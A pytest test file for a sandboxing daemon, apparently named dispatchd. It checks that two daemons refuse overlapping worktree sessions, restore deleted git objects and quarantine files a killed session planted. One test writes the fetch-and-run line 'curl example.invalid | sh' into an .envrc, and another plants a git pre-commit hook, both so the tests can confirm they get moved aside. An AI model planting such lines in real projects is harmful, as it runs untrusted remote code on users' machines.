"""Two daemons of the user on one state directory (each its own socket: the
systemd service and one started by hand) never have sessions on one
worktree, one inside the other, or two worktrees of one repository at once:
each keeps its own baseline and its own keep of the repository's objects,
and the second's would undo the first's (dispatchd/daemon/claims.py)."""

from __future__ import annotations

import contextlib
import json
import os
import signal
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

import dispatch
from tests.conftest import Daemon, shell, wait_for_pool, wait_until


def _claims(d: Daemon) -> list[str]:
    """The sessions the daemons' entries on ``d``'s state directory hold (spares hold none)."""
    top = d.state / "dispatchd" / "inuse"
    return sorted(json.loads(text)["session"] for n in os.listdir(top) if n.endswith(".uses")
                  if (text := (top / n).read_text()).strip())


def git(cwd: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True, timeout=60).stdout


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    r = Path(os.path.realpath(tmp_path)) / "w" / "repo"
    r.mkdir(parents=True)
    git(r, "init", "-q")
    git(r, "config", "user.email", "user@example.invalid")
    git(r, "config", "user.name", "user")
    (r / "src").mkdir()
    for name in ("a", "b", "c"):
        (r / name).write_text(f"{name}\n")
    git(r, "add", ".")
    git(r, "commit", "-qm", "init")
    return r


@pytest.fixture
def two(tmp_path: Path) -> Iterator[tuple[Daemon, Daemon]]:
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    first = Daemon(tmp_path / "a", "--cgroup", "off")
    second = None
    try:
        second = Daemon(tmp_path / "b", "--cgroup", "off", state=first.state)
        yield first, second
    finally:
        for d, killed in ((second, False), (first, first.proc.poll() == -signal.SIGKILL)):
            if d is not None:
                assert d.stop() == (-signal.SIGKILL if killed else 0), d.log()


def _refused(root: Path, sid: str, daemon: Daemon, uses: Path) -> str:
    return (f"{root}: session {sid} of another dispatchd (pid {daemon.proc.pid}) on this state directory uses "
            f"{uses}, which overlaps it, shares its repository or holds it; each dispatchd keeps its own baseline "
            "of a worktree, so the sessions of one at a time use it: close that session, or open this one through "
            "that dispatchd; no session opened")


def test_a_second_daemon_s_open_is_refused_while_the_first_s_session_lives(two: tuple[Daemon, Daemon],
                                                                           repo: Path, tmp_path: Path) -> None:
    first, second = two
    linked = repo.parent / "linked"
    git(repo, "worktree", "add", "-q", str(linked), "-b", "side")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    with first.connect() as c1, second.connect() as c2:
        s1 = c1.open_session(str(repo))
        for root in (repo, repo / "src", linked, repo.parent):  # the same, inside, the same repository, around
            with pytest.raises(dispatch.DispatchError) as err:
                c2.open_session(str(root))
            assert str(err.value) == _refused(root, s1.id, first, repo), str(err.value)
        assert c2.list_sessions() == []
        with c2.open_session(str(elsewhere)) as beside:  # the twin: an unrelated worktree
            assert shell(beside, "touch x").is_success
        s1.close()
        with _when_free(c2, repo) as s2:  # and once the first's session has ended
            assert shell(s2, "touch y").is_success
        assert wait_until(lambda: _claims(first) == [])


def test_the_first_daemon_s_keep_is_not_undone(two: tuple[Daemon, Daemon], repo: Path) -> None:
    """A session deletes the repository's objects; its daemon puts them back
    at its end from its keep. A second daemon's open, even to read, recorded
    the repository anew and emptied that keep: refused now, and every object
    comes back."""
    first, second = two
    objects = sorted(p.relative_to(repo) for p in (repo / ".git" / "objects").glob("??/*"))
    assert len(objects) == 5  # 3 blobs, a tree, a commit
    with first.connect() as c1, second.connect() as c2:
        with c1.open_session(str(repo)) as s1:
            r = shell(s1, "chmod -R u+w .git/objects && rm -rf .git/objects/?? && ls .git/objects")
            assert r.is_success and r.output == "info\npack\n", (r.error, r.output)
            with pytest.raises(dispatch.DispatchError, match="of another dispatchd"):
                c2.open_session(str(repo))
        assert sorted(p.relative_to(repo) for p in (repo / ".git" / "objects").glob("??/*")) == objects
        git(repo, "fsck", "--strict")
        with _when_free(c2, repo) as s2:  # the twin: once it has ended, the other daemon opens
            assert shell(s2, "git log --format=%s").output == "init\n"


def test_a_killed_daemon_s_baseline_is_checked_before_another_daemon_opens(two: tuple[Daemon, Daemon],
                                                                            repo: Path) -> None:
    """What its session planted is moved aside by the daemon still running,
    at the next open there, as a daemon's start would; not taken into that
    open's baseline."""
    first, second = two
    c1 = first.connect()
    s1 = c1.open_session(str(repo))
    assert shell(s1, "echo 'curl example.invalid | sh' > .envrc").is_success
    os.kill(first.proc.pid, signal.SIGKILL)
    first.proc.wait(timeout=10)
    with contextlib.suppress(dispatch.DispatchError, OSError):
        s1.close()
    c1.close()
    assert (repo / ".envrc").exists()  # its daemon died before its end's check
    with second.connect() as c2:
        assert wait_until(lambda: _opens(c2, repo))  # once its sandbox is gone too
        assert not (repo / ".envrc").exists()
        moved = [p for p in c2.status()["protected"]
                 if p["path"].startswith(f"{repo}/.envrc.quarantined-by-dispatchd-")]
        assert moved, c2.status()["protected"]
        assert "event=dead_daemon_sessions_found" in second.log()
    assert wait_until(lambda: _claims(second) == [])


def _when_free(client: dispatch.Client, root: Path) -> dispatch.Session:
    """A session on ``root`` once the other daemon's last session there has
    given it back (after its close's reply, once its baseline's record is gone)."""
    opened: list[dispatch.Session] = []

    def attempt() -> bool:
        try:
            opened.append(client.open_session(str(root)))
        except dispatch.DispatchError as exc:
            assert "of another dispatchd" in str(exc), str(exc)
            return False
        return True
    assert wait_until(attempt, timeout=10)
    return opened[0]


@pytest.fixture
def two_degraded(tmp_path: Path) -> Iterator[tuple[Daemon, Daemon]]:
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    first = Daemon(tmp_path / "a", "--cgroup", "off", "--no-user-namespaces")
    second = None
    try:
        second = Daemon(tmp_path / "b", "--cgroup", "off", "--no-user-namespaces", state=first.state)
        yield first, second
    finally:
        for d, killed in ((second, False), (first, first.proc.poll() == -signal.SIGKILL)):
            if d is not None:
                assert d.stop() == (-signal.SIGKILL if killed else 0), d.log()


def test_the_git_metadata_is_looked_at_again_after_a_dead_daemon_s_remains(two_degraded: tuple[Daemon, Daemon],
                                                                           repo: Path) -> None:
    """Degraded mode (git metadata writable while a session runs): a hook a
    dead daemon's session planted is moved aside by the open that finds it;
    the baseline of that open's session is taken after, so the same hook
    planted again is moved aside at its end too, not taken for the user's."""
    first, second = two_degraded
    plant = "printf '#!/bin/sh\nexit 0\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit"
    c1 = first.connect()
    s1 = c1.open_session(str(repo))
    assert shell(s1, plant).is_success
    os.kill(first.proc.pid, signal.SIGKILL)
    first.proc.wait(timeout=10)
    with contextlib.suppress(dispatch.DispatchError, OSError):
        s1.close()
    c1.close()
    hook = repo / ".git" / "hooks" / "pre-commit"
    assert hook.exists()
    with second.connect() as c2:
        s2 = _when_free(c2, repo)
        assert not hook.exists()  # moved aside before this session's baseline
        assert shell(s2, plant).is_success
        s2.close()
        assert not hook.exists(), "the hook planted again was taken into the baseline"
        assert [p for p in c2.status()["protected"] if "/.git/hooks/pre-commit.quarantined-by-dispatchd-" in p["path"]]


def _opens(client: dispatch.Client, root: Path) -> bool:
    try:
        client.open_session(str(root)).close()
    except dispatch.DispatchError:
        return False
    return True


def test_an_open_whose_use_cannot_be_recorded_is_refused(two: tuple[Daemon, Daemon], repo: Path) -> None:
    first, _ = two
    mutex = first.state / "dispatchd" / "inuse" / ".mutex"
    with first.connect() as c1:
        c1.open_session(str(repo)).close()  # the table exists
        # What every claim locks cannot be opened (a mode changed is set back: test_state_modes.py).
        mutex.unlink()
        mutex.mkdir()
        try:
            with pytest.raises(dispatch.DispatchError) as err:
                c1.open_session(str(repo))
        finally:
            mutex.rmdir()
        assert str(err.value) == (f"{repo}: its use could not be recorded for the other daemons on this state "
                                  "directory (Is a directory); no session opened")
        assert c1.list_sessions() == []
        c1.open_session(str(repo)).close()  # the twin: recorded, it opens


def test_sessions_leave_no_descriptor_and_no_entry(two: tuple[Daemon, Daemon], repo: Path) -> None:
    first, _ = two
    with first.connect() as c1:
        c1.open_session(str(repo)).close()
        wait_for_pool(c1, "default/off", 2)  # the pool's sandboxes hold descriptors of the daemon's too
        fds = _fewest_fds(first)  # a close's work after its reply holds some for a while
        for _ in range(5):
            with c1.open_session(str(repo)) as s, c1.open_session(str(repo / "src")) as inner:
                assert shell(s, "true").is_success
                assert set(_claims(first)) >= {s.id, inner.id}
        wait_for_pool(c1, "default/off", 2)
        assert wait_until(lambda: _fewest_fds(first) <= fds), (fds, _fewest_fds(first))
        assert wait_until(lambda: _claims(first) == [])


def _fewest_fds(d: Daemon) -> int:
    """The daemon's descriptors, the fewest of a few looks over 0.3 s."""
    seen = []
    for _ in range(15):
        seen.append(len(os.listdir(f"/proc/{d.proc.pid}/fd")))
        time.sleep(0.02)
    return min(seen)
